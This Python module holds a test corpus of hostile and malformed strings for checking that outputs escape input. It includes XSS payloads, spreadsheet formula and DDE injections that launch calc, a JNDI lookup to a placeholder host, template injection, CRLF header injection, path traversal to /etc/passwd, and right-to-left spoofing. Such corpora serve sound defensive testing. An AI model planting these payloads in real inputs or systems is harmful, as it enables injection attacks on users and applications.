"""Text that means harm, or that breaks what is made carelessly: for every kind of output the same corpus."""

from __future__ import annotations

from collections.abc import Mapping

RIGHT_TO_LEFT = "KRAS \u202egnp.exe\u202c G12C"
LONG = "<b>" + "long name " * 10_000
"""A hundred thousand signs."""

TEXTS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "apostrophe": "'><svg onload=alert(1)>",
    "closing script": "</script></style></textarea><script>alert(1)</script>",
    "comment": "<!-- --!> --><script>alert(1)</script>",
    "javascript link": "javascript:alert(1)",
    "data link": "data:text/html,<script>alert(1)</script>",
    "markdown link": "[click](javascript:alert(1)) ![x](https://example.invalid/x.png)",
    "remote picture": '<img src="https://example.invalid/x.png"><link rel=stylesheet href=//example.invalid/x.css>',
    "right to left": RIGHT_TO_LEFT,
    "zero width": "KR\u200bAS\u200d \ufeffG12C\u2066",
    "long": LONG,
    "one long word": "W" * 3_000,
    "equals": '=HYPERLINK("https://example.invalid/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "space": " =1+1",
    "formula in full width": "＝1+1",
    "formula on a second line": "first\n=1+1\r\n@x",
    "lookup": "${jndi:ldap://example.invalid/x}",
    "template": "{{7*7}}{% raw %}{{ config }}${7*7}#{7*7}",
    "end of data": "]]><x/>",
    "entity": "&amp;lt;&#60;&#x3c;&quot;&nbsp;&",
    "quotes": '"\'`“”«»\\"',
    "csv": 'a,"b";c\td\n"e',
    "lines": "one\ntwo\r\nthree\u2028four\u2029five\x0bsix\x85seven",
    "nul": "KRAS\x00G12C",
    "control": "\x1b[31mred\x1b]0;owned\x07\x9b31m",
    "lone surrogate": "KRAS\ud800\udfff\ude00",
    "no character": "\ufffe\uffff\U0001ffff",
    "escape of workbooks": "_x0000__x000D__x003D_1",
    "rich markup": "[bold red]x[/] [link=javascript:alert(1)]y[/link]",
    "format": "%s%n{0.__class__}%(x)s",
    "path": "../../../../etc/passwd",
    "combining": "K" + "\u0301" * 200,
    "emoji": "🧬👩🏽‍🔬🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "blank": "   ",
}
"""By name; all but the links and addresses go into any field of text."""

URLS: Mapping[str, str] = {
    "javascript": "javascript:alert(1)",
    "javascript, spelt oddly": " JaVa\tScript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "share": "\\\\example.invalid\\share\\x",
    "no scheme": "//example.invalid/x",
    "quoted": 'https://example.org/"onmouseover="alert(1)',
    "markup": "https://example.org/<script>alert(1)</script>",
    "formula": '=HYPERLINK("https://example.invalid")',
    "user": "https://www.nhs.uk@example.invalid/",
    "line": "https://example.org/\r\nSet-Cookie: x=1",
    "right to left": "https://example.org/\u202egnp",
    "surrogate": "https://example.org/\ud800",
    "no host": "https://",
    "bracket": "http://[::1",
    "long": "https://example.org/" + "x" * 3_000,
    "plain": "https://example.org/plain?a=1&b=2#c",
}
"""By name, for fields that hold an address; only some of them may ever become a link."""
